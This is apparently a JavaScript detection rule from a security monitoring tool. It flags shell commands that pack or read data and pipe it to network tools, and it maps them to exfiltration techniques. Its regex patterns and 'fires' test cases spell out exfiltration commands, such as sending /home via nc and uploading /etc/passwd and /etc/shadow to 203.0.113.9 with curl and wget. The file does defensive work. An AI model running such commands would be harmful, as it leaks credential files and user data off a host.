import { commandRule } from "../rule.js";

/** Data is packed and sent away in one command. */
export const dataCarriedOut = commandRule({
  id: "data-carried-out",
  alertType: "IoT_EgressData",
  name: "Potential loss of data detected",
  severity: "Medium",
  about: "Data is packed and sent away in one command.",
  tactics: ["Exfiltration"],
  techniques: ["T1048", "T1041"],
  witness: ["curl", "scp", "nc ", "ncat", "wget", "rsync", "ftp"],
  patterns: [
    /\btar\b.*\|\s*(?:nc|ncat|netcat|ssh|curl|openssl)\b.*/i,
    /\bcurl\b(?=.*\s(?:-T|--upload-file|-F|--form|--data-binary|-d)\s*\S*@?\/(?:etc|home|root|var)\/)\S*.*/i,
    /\bwget\b.*--post-file[= ]\/?\S+.*/i,
    /(?:cat|dd)\b[^|]*\/etc\/(?:passwd|shadow)\S*\s*\|\s*(?:nc|ncat|curl)\b.*/i,
  ],
  did: "sent data away",
  because: "it packs or reads data and hands it to a network tool",
  fires: [
    "sh -c tar czf - /home | nc 203.0.113.9 9",
    "curl -T /etc/passwd http://203.0.113.9/",
    "wget --post-file=/etc/shadow http://203.0.113.9",
  ],
  silent: ["tar czf /tmp/logs.tgz /var/log", "curl -d a=b http://127.0.0.1/", "rsync -a /srv/ backup:/srv/"],
});
